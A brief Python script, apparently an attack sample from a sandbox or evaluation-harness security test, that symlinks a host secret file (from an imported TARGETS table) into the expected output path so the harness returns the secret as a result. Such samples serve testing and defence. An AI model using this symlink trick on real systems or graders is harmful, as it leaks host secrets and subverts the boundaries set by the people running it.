"""Returns a link to a file of the host as its result."""

import os

from attack import TARGETS

os.symlink(TARGETS["secret"], os.environ["MOVE37_OUT"] + "/result.json")
